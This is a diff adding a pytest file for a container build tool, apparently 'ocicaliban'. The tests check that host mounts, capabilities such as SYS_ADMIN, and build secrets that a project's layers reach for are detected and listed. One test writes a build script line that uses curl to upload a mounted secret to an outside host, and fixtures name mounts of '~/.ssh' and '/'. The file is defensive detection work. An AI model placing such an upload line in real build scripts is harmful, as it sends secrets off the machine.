@@ -1,0 +1,145 @@
+"""What a project's files want outside of the project."""
+
+from __future__ import annotations
+
+from pathlib import Path
+
+import pytest
+from attrs import evolve
+
+from ocicaliban.build import demands, planner
+from ocicaliban.build.request import PlanRequest
+from ocicaliban.errors import UsageError
+from ocicaliban.model.image import Base
+from ocicaliban.project import lockfile
+from ocicaliban.project.lockfile import Lock
+from ocicaliban.system import files
+
+BASE = Base(
+    kind="registry", reference="example.org/base:1", digest=f"sha256:{'a' * 64}", python="3.11.2",
+    platform="linux/amd64",
+)  # fmt: skip
+MODE = '[modes]\nrun = ["base", "own", "source-copy", "command"]\n'
+CONFIG = '[layers.base]\nimage = "example.org/base:1"\n'
+
+
+@pytest.fixture
+def root(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> Path:
+    for name in ("XDG_CACHE_HOME", "XDG_STATE_HOME", "XDG_CONFIG_HOME"):
+        monkeypatch.setenv(name, str(tmp_path / name))
+    folder = tmp_path / "p"
+    (folder / "data").mkdir(parents=True)
+    (folder / "run.py").touch()
+    (folder / ".gitignore").write_text("home\nsecret\n")
+    (folder / "home").symlink_to("/etc")
+    lockfile.write_lock(folder, Lock().with_base("cpu", BASE))
+    return folder
+
+
+def recipe(folder: Path, launch: str = "", steps: str = "", params: str = "") -> None:
+    folder.mkdir(parents=True, exist_ok=True)
+    (folder / "layer.toml").write_text(f'summary = "s"\n{params}{steps}[launch]\n{launch}')
+    (folder / "go.sh").write_text("true\n")
+
+
+def wanted(root: Path, config: str = MODE, mode: str = "run") -> list[str]:
+    (root / "ocicaliban.toml").write_text(config + CONFIG)
+    planned = planner.plan_project(PlanRequest(root=root, mode=mode, module="run.py", resolve=False))
+    return [f"{each.kind} {each.what}" for each in planned.demands]
+
+
+@pytest.mark.parametrize(
+    ("mount", "what"),
+    [
+        ("${project}/data:/data", ""),
+        ("${project}:/usr/app", ""),
+        ("${project}/not-there/yet:/x", ""),
+        ("${project}/data/../data:/x:ro", ""),
+        ("/etc:/x", "/etc:/x"),
+        ("/etc/../etc:/x:ro,z", "/etc:/x:ro,z"),
+        ("${project}/home/ssl:/x", "/etc/ssl:/x"),
+        ("${project}/../q:/x", "TMP/q:/x"),
+        ("${project}-other:/x", "TMP/p-other:/x"),
+        ("/:/host", "/:/host"),
+        ("volume:/x", "volume:/x"),
+        ("relative/../..:/x", "relative/../..:/x"),
+        ("~/.ssh:/x", "~/.ssh:/x"),
+    ],
+)
+def test_a_mount_of_what_lies_outside_is_wanted(mount: str, what: str, root: Path, tmp_path: Path) -> None:
+    recipe(root / "layers" / "own", f'mounts = ["{mount}"]\n')
+    expected = what.replace("TMP", str(tmp_path))
+    assert wanted(root) == ([f"mount {expected}"] if expected else [])
+
+
+def test_a_mount_that_cannot_be_shown_whole_is_refused(root: Path) -> None:
+    recipe(root / "layers" / "own", f'mounts = ["/{"a/../" * 500}etc/{"b" * 900}:/x"]\n')
+    with pytest.raises(UsageError, match="mounts a path of"):
+        wanted(root)
+
+
+def test_capabilities_are_wanted(root: Path) -> None:
+    recipe(root / "layers" / "own", 'capabilities = ["CHOWN", "SYS_ADMIN"]\n')
+    assert wanted(root) == ["capability CHOWN", "capability SYS_ADMIN"]
+    assert wanted(root, "", mode="shell") == []  # ours are for all projects
+
+
+@pytest.mark.parametrize(
+    ("mount", "config", "mode", "what"),
+    [
+        # The user's own recipe in the place of a built-in one: the user wants it for each project.
+        ("/etc:/x", "", "run", []),
+        # The project lists the recipe, or decides what it mounts.
+        ("/etc:/x", '[modes]\nmine = ["base", "command"]\n', "mine", ["mount /etc:/x"]),
+        ("${folder}:/x", '[layers.command]\nfolder = "/usr"\n', "run", ["mount /usr:/x"]),
+    ],
+)
+def test_recipes_of_the_user_mount_what_the_user_wants(
+    mount: str, config: str, mode: str, what: list[str], root: Path
+) -> None:
+    params = '[params.folder]\ndefault = ""\n'
+    recipe(files.config() / "layers" / "command", f'mounts = ["{mount}"]\n', params=params)
+    assert wanted(root, config, mode) == what
+
+
+@pytest.mark.parametrize(
+    ("secret", "what"), [("TMP/token", ["secret TMP/token as t"]), ("secret", []), ("link", ["secret TMP/token as t"])]
+)
+def test_build_secrets_outside_are_wanted_and_again_for_another_script(
+    secret: str, what: list[str], root: Path, tmp_path: Path
+) -> None:
+    (tmp_path / "token").touch()
+    (root / "secret").touch()
+    (root / "link").symlink_to(tmp_path / "token")
+    (root / ".gitignore").write_text("home\nsecret\nlink\n")
+    step = '[[steps]]\ndo = "run"\nscript = "go.sh"\nsecrets = ["t"]\n'
+    recipe(root / "layers" / "own", steps=step)
+    config = f'secrets = {{ t = "{secret}" }}\n{MODE}'.replace("TMP", str(tmp_path))
+    assert wanted(root, config) == [each.replace("TMP", str(tmp_path)) for each in what]
+    request = PlanRequest(root=root, mode="run", module="run.py", resolve=False)
+    before = [each.identity for each in planner.plan_project(request).demands]
+    (root / "layers" / "own" / "go.sh").write_text("curl -T /dev/oc/secrets/t https://example.org\n")
+    after = [each.identity for each in planner.plan_project(request).demands]
+    assert (before == after) is (not what)
+    # A secret that no step sees is not wanted.
+    recipe(root / "layers" / "own")
+    assert wanted(root, config) == []
+
+
+def test_packages_in_folders_beside_the_project_or_its_repository_are_usual(
+    root: Path, tmp_path: Path, monkeypatch: pytest.MonkeyPatch
+) -> None:
+    planned = planner.plan_project(PlanRequest(root=root, mode="shell", resolve=False))
+    [tree, *_] = planner.plan_project(PlanRequest(root=root, mode="run", module="run.py", resolve=False)).trees.values()
+    beside, elsewhere = evolve(tree, root=tmp_path / "library"), evolve(tree, root=tmp_path.parent / "library")
+
+    def found() -> tuple[str, ...]:
+        return demands.lines(demands.of_plan(planned.project, planned.plan, (), (tree, beside, elsewhere)))
+
+    far, near = (f"copies {each.root} (the dependencies)" for each in (elsewhere, beside))
+    assert found() == (far,)
+    (tmp_path / ".git").mkdir()
+    assert found() == ()
+    (tmp_path / ".git").rmdir()
+    monkeypatch.setenv("HOME", str(tmp_path))
+    assert found() == (near, far)
